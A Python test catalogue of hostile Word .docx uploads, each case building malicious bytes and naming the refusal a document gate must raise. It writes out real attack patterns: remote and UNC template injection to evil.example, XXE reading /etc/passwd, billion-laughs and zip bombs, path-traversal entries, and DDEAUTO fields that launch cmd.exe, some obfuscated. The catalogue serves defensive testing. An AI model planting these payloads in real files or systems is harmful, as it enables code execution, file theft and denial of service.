"""``HOSTILE``, the catalogue of attacks on the gate (tests/unit/test_gate.py runs it, bench/hostile.py times it):
each case builds its bytes, names the RefusedFile subclass it must raise and a fragment of the reason."""

from __future__ import annotations

import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from drafting.errors import (
    BadZipEntry,
    ExternalContent,
    LegacyOrEncrypted,
    MacroContent,
    NotAWordFile,
    RefusedFile,
    UnsafeXml,
    ZipBomb,
)
from drafting.wordml.gate import GateLimits
from tests.gatebuild import (
    DOCUMENT,
    MIB,
    MS,
    R,
    W,
    billion_laughs,
    body,
    doc_rel,
    docx,
    docx_parts,
    field,
    nested,
    ole,
    other_office,
    overlapping_zip,
    patched,
    quine_directory,
    relationships,
    settings_rel,
    streamed_zeros,
    zip_of,
)

# -- the catalogue -------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[], bytes]
    refused: type[RefusedFile]
    fragment: str
    limits: GateLimits | None = None


HOSTILE = [
    # not a zip at all
    Case("empty", lambda: b"", NotAWordFile, "it is empty"),
    Case("pdf", lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n", NotAWordFile, "it looks like a PDF"),
    Case("rtf", lambda: rb"{\rtf1\ansi Draft declaration}", NotAWordFile, "looks like an RTF file"),
    Case(
        "html",
        lambda: b"<!DOCTYPE html><html><body>Draft</body></html>",
        NotAWordFile,
        "looks like a web page",
    ),
    Case(
        "text",
        lambda: b"Dear colleagues,\nplease find our comments below.\n",
        NotAWordFile,
        "looks like plain text",
    ),
    Case(
        "word-2003-xml",
        lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
        NotAWordFile,
        "looks like a Word 2003 XML document, not a Word .docx file",
    ),
    # OLE compound files
    Case(
        "legacy-doc",
        lambda: ole("WordDocument", "1Table"),
        LegacyOrEncrypted,
        "legacy Word 97-2003 .doc",
    ),
    Case(
        "encrypted-docx",
        lambda: ole("\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"),
        LegacyOrEncrypted,
        "remove the password",
    ),
    Case(
        "zip-encryption",
        lambda: patched(docx(), "word/document.xml", flags=1),
        LegacyOrEncrypted,
        "password",
    ),
    # wrong or missing main part
    Case(
        "renamed-xlsx",
        lambda: other_office(
            "xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        ),
        NotAWordFile,
        "this is an Excel workbook, not a Word document",
    ),
    Case(
        "renamed-pptx",
        lambda: other_office(
            "ppt/presentation.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        ),
        NotAWordFile,
        "PowerPoint presentation",
    ),
    Case(
        "no-content-types",
        lambda: zip_of({"word/document.xml": DOCUMENT}),
        NotAWordFile,
        "[Content_Types].xml",
    ),
    Case(
        "odt",
        lambda: zip_of(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"},
            zipfile.ZIP_STORED,
        ),
        NotAWordFile,
        "OpenDocument text",
    ),
    Case(
        "no-office-document-rel",
        lambda: zip_of(docx_parts() | {"_rels/.rels": relationships()}),
        NotAWordFile,
        "officeDocument",
    ),
    Case(
        "main-part-missing",
        lambda: zip_of({k: v for k, v in docx_parts().items() if k != "word/document.xml"}),
        NotAWordFile,
        "is missing",
    ),
    Case(
        "wrong-main-type",
        lambda: docx(main_type="application/xml"),
        NotAWordFile,
        "not a Word document",
    ),
    # macros
    Case(
        "docm",
        lambda: docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MacroContent,
        "macro-enabled",
    ),
    Case(
        "vba-project",
        lambda: docx(
            doc_rels=(("rId9", MS + "vbaProject", "vbaProject.bin", None),),
            extra={"word/vbaProject.bin": ole("VBA", "_VBA_PROJECT")},
            defaults={"bin": "application/vnd.ms-office.vbaProject"},
        ),
        MacroContent,
        "vbaProject",
    ),
    Case(
        "vba-project-undeclared",
        lambda: docx(extra={"word/vbaProject.bin": b"\x00" * 64}),
        MacroContent,
        "macro project",
    ),
    Case(
        "vba-data",
        lambda: docx(extra={"word/vbaData.xml": b"<wne:vbaSuppData xmlns:wne='urn:x'/>"}),
        MacroContent,
        "macro project",
    ),
    Case(
        "activex",
        lambda: docx(
            extra={"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='urn:x'/>"},
            overrides={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        ),
        MacroContent,
        "activeX",
    ),
    Case(
        "ole-embedding-with-vba",
        lambda: docx(
            extra={
                "word/embeddings/oleObject1.bin": ole("\x01Ole", "Macros", "VBA", "_VBA_PROJECT")
            },
            defaults={"bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        ),
        MacroContent,
        "carries VBA macros",
    ),
    Case(
        "embedded-xlsm",
        lambda: docx(extra={"word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": b"x"}),
        MacroContent,
        "macro-enabled document",
    ),
    Case(
        "embedded-xlsx-with-vba",
        lambda: docx(
            extra={
                "word/embeddings/Book1.xlsx": zip_of(
                    {"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"x"}
                )
            }
        ),
        MacroContent,
        "embedded document",
    ),
    # content from outside the file
    Case(
        "remote-template",
        lambda: settings_rel(R + "attachedTemplate", "http://evil.example/t.dotm"),
        ExternalContent,
        "attachedTemplate from 'http://evil.example/t.dotm'",
    ),
    Case(
        "unc-template",
        lambda: settings_rel(R + "attachedTemplate", r"\\evil.example\share\t.dotm"),
        ExternalContent,
        "attachedTemplate",
    ),
    Case(
        "local-template-when-disallowed",
        lambda: settings_rel(R + "attachedTemplate", "file:///C:/T/x.dotx"),
        ExternalContent,
        "attachedTemplate",
        GateLimits(allow_local_template=False),
    ),
    Case(
        "sub-document",
        lambda: doc_rel(R + "subDocument", "file:///C:/part2.docx"),
        ExternalContent,
        "subDocument",
    ),
    Case(
        "frame",
        lambda: doc_rel(R + "frame", "http://evil.example/frame.html"),
        ExternalContent,
        "frame",
    ),
    Case(
        "linked-ole",
        lambda: doc_rel(R + "oleObject", "file:///C:/budget.xlsx"),
        ExternalContent,
        "oleObject",
    ),
    Case(
        "alt-chunk",
        lambda: doc_rel(
            R + "aFChunk", "afchunk.mht", None, {"word/afchunk.mht": b"MIME-Version: 1.0"}
        ),
        ExternalContent,
        "altChunk",
    ),
    Case(
        "unknown-external",
        lambda: settings_rel(R + "mailMergeSource", "http://evil.example/db.odc"),
        ExternalContent,
        "mailMergeSource",
    ),
    # zip bombs
    Case(
        "zeros-300mib",
        lambda: streamed_zeros(300 * MIB, parts=docx_parts(), member="word/media/zeros.bin"),
        ZipBomb,
        "zip bomb?",
    ),
    Case(
        "lying-header",
        lambda: patched(
            streamed_zeros(300 * MIB, parts=docx_parts(), member="word/media/a.bin"),
            "word/media/a.bin",
            size=1000,
        ),
        ZipBomb,
        "expands beyond the size its header declares",
    ),
    Case(
        "ratio",
        lambda: streamed_zeros(20 * MIB, parts=docx_parts(), member="word/media/a.bin"),
        ZipBomb,
        "expands more than 100:1",
    ),
    Case(
        "too-many-entries",
        lambda: zip_of(docx_parts() | {f"word/media/{i}.png": b"" for i in range(2001)}),
        ZipBomb,
        "more than 2000 entries",
    ),
    Case("directory-flood", lambda: quine_directory(200_000), ZipBomb, "more than 2000 entries"),
    Case(
        "total",
        lambda: docx(extra={f"word/media/{i}.bin": bytes(range(256)) * 2048 for i in range(3)}),
        ZipBomb,
        "expands beyond 1 MiB",
        GateLimits(max_total_uncompressed=MIB),
    ),
    Case("upload-size", lambda: docx(), ZipBomb, "upload limit", GateLimits(max_upload_bytes=100)),
    # hostile zip directories
    Case(
        "duplicate",
        lambda: zip_of(docx_parts() | {"word/document.xml|2": DOCUMENT}),
        BadZipEntry,
        "repeats",
    ),
    Case(
        "case-duplicate",
        lambda: zip_of(docx_parts() | {"Word/Document.xml": DOCUMENT}),
        BadZipEntry,
        "repeats",
    ),
    Case(
        "unicode-duplicate",
        lambda: zip_of(
            docx_parts()
            | {
                unicodedata.normalize("NFC", "word/é.xml"): b"<a/>",
                unicodedata.normalize("NFD", "word/é.xml"): b"<a/>",
            }
        ),
        BadZipEntry,
        "Unicode form",
    ),
    Case(
        "absolute",
        lambda: zip_of(docx_parts() | {"/etc/cron.d/x": b""}),
        BadZipEntry,
        "absolute path",
    ),
    Case(
        "traversal",
        lambda: zip_of(docx_parts() | {"word/../../evil.xml": b"<a/>"}),
        BadZipEntry,
        "'..'",
    ),
    Case(
        "backslash",
        lambda: zip_of(docx_parts() | {"word\\..\\evil.xml": b"<a/>"}),
        BadZipEntry,
        "backslash",
    ),
    Case(
        "drive-letter",
        lambda: zip_of(docx_parts() | {"C:/evil.xml": b"<a/>"}),
        BadZipEntry,
        "absolute path",
    ),
    Case(
        "nul-in-name",
        lambda: zip_of(docx_parts() | {"word/evil.xml#.png": b"<a/>"}).replace(
            b"xml#.png", b"xml\x00.png"
        ),
        BadZipEntry,
        "NUL byte",
    ),
    Case("overlap", overlapping_zip, BadZipEntry, "overlaps"),
    Case(
        "bad-local-header",
        lambda: (
            docx().replace(b"PK\x03\x04", b"PK\x03\x05", 2).replace(b"PK\x03\x05", b"PK\x03\x04", 1)
        ),
        BadZipEntry,
        "valid local header",
    ),
    Case(
        "prepended-bytes", lambda: b"PK\x03\x04" + bytes(60) + docx(), BadZipEntry, "bytes before"
    ),
    Case("trailing-bytes", lambda: docx() + b"MZ" + bytes(100), BadZipEntry, "bytes follow"),
    Case("truncated", lambda: docx()[:200], BadZipEntry, "no end-of-directory record"),
    Case(
        "bzip2",
        lambda: zip_of(docx_parts(), zipfile.ZIP_BZIP2),
        BadZipEntry,
        "compression method 12",
    ),
    # XML
    Case("billion-laughs", lambda: docx(document=billion_laughs()), UnsafeXml, "DOCTYPE or ENTITY"),
    Case(
        "xxe",
        lambda: docx(
            document=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
        ),
        UnsafeXml,
        "DOCTYPE or ENTITY",
    ),
    Case(
        "doctype-in-content-types",
        lambda: zip_of(
            docx_parts()
            | {"[Content_Types].xml": b'<!DOCTYPE t SYSTEM "http://evil.example/t.dtd"><Types/>'}
        ),
        UnsafeXml,
        "[Content_Types].xml",
    ),
    Case(
        "doctype-in-rels",
        lambda: zip_of(docx_parts() | {"_rels/.rels": b"<!DOCTYPE r [<!ENTITY a 'b'>]><r/>"}),
        UnsafeXml,
        "_rels/.rels",
    ),
    Case(
        "utf16-doctype",
        lambda: docx(
            extra={
                "word/styles.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE s'
                ' [<!ENTITY a "b">]><s>&a;</s>'.encode("utf-16")
            }
        ),
        UnsafeXml,
        "word/styles.xml",
    ),
    Case(
        "utf16be-doctype-no-bom",
        lambda: docx(
            document='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d><d/>'.encode("utf-16-be")
        ),
        UnsafeXml,
        "DOCTYPE",
    ),
    Case(
        "utf32-doctype",
        lambda: docx(extra={"customXml/item1.xml": "<!DOCTYPE d><d/>".encode("utf-32")}),
        UnsafeXml,
        "customXml/item1.xml",
    ),
    Case(
        "utf7",
        lambda: docx(
            document=b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE d+AD4-<d/>'
        ),
        UnsafeXml,
        "UTF-7",
    ),
    Case(
        "deep-nesting",
        lambda: docx(document=nested(50_000)),
        UnsafeXml,
        "nests elements more than 200 deep",
    ),
    Case(
        "nesting-over-cap",
        lambda: docx(document=nested(230)),
        UnsafeXml,
        "nests elements more than 200 deep",
    ),
    Case(
        "too-many-tags",
        lambda: docx(document=b"<d>" + b"<p/>" * 2000 + b"</d>"),
        UnsafeXml,
        "XML tags",
        GateLimits(max_xml_tags=1000),
    ),
    Case(
        "xml-part-too-large",
        lambda: docx(document=DOCUMENT.replace(b"Hello", b"Hello " * 500)),
        UnsafeXml,
        "larger than 2000 bytes",
        GateLimits(max_xml_part_bytes=2000),
    ),
    Case("malformed", lambda: docx(document=b"<w:document><w:body>"), UnsafeXml, "not well-formed"),
    # fields that run a program when Word updates them (no macro needed)
    Case(
        "dde-auto-field",
        lambda: docx(document=body(field(" DDE", 'AUTO c:\\\\windows\\\\cmd.exe "/k calc"'))),
        MacroContent,
        "has a DDEAUTO field, which starts a program",
    ),
    Case(
        "dde-simple-field",
        lambda: docx(document=body('<w:p><w:fldSimple w:instr=" dde excel data"/></w:p>')),
        MacroContent,
        "has a DDE field",
    ),
    Case(
        "dde-in-a-deleted-field-code",
        lambda: docx(document=body(field(" DDEAUTO cmd", deleted=True))),
        MacroContent,
        "has a DDEAUTO field",
    ),
    Case(
        "dde-spelt-by-a-nested-quote-field",
        lambda: docx(
            document=body(field(" cmd.exe", nested=field(" QUOTE 68 68 69 65 85 84 79")[5:-6]))
        ),
        MacroContent,
        "kind is computed by another field",
    ),
    Case(
        "dde-in-a-header",
        lambda: docx(
            extra={"word/header1.xml": f"<w:hdr {W}>{field(' DDEAUTO cmd')}</w:hdr>".encode()}
        ),
        MacroContent,
        "part 'word/header1.xml' has a DDEAUTO field",
    ),
    Case(
        "dde-in-a-utf16-part",  # the bytes hide "instrText" from a byte search: the tree is walked all the same
        lambda: docx(
            document=body(field(" DDEAUTO cmd"))
            .decode()
            .replace('encoding="UTF-8"', 'encoding="UTF-16"')
            .encode("utf-16")
        ),
        MacroContent,
        "has a DDEAUTO field",
    ),
    Case(
        "dde-in-a-field-never-closed",
        lambda: docx(
            document=body(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"
            )
        ),
        MacroContent,
        "has a DDEAUTO field",
    ),
    # issue 12: more paragraphs than any declaration has (the reader's and the compilation's work grow with them)
    Case(
        "too-many-paragraphs",
        lambda: docx(document=body("<w:p/>" * 12)),
        ZipBomb,
        "it holds 12 paragraphs, over the limit of 11",
        GateLimits(max_paragraphs=11),
    ),
    # issue 12: relationships whose targets leave the package root
    Case(
        "relationship-escapes-the-package",
        lambda: doc_rel(R + "image", "../../../etc/passwd", None),
        BadZipEntry,
        "points outside the package",
    ),
    Case(
        "package-relationship-escapes",
        lambda: zip_of(
            docx_parts()
            | {
                "_rels/.rels": relationships(
                    ("rId1", R + "officeDocument", "word/document.xml", None),
                    ("rId2", R + "image", "/../x.png", None),
                )
            }
        ),
        BadZipEntry,
        "points outside the package",
    ),
]
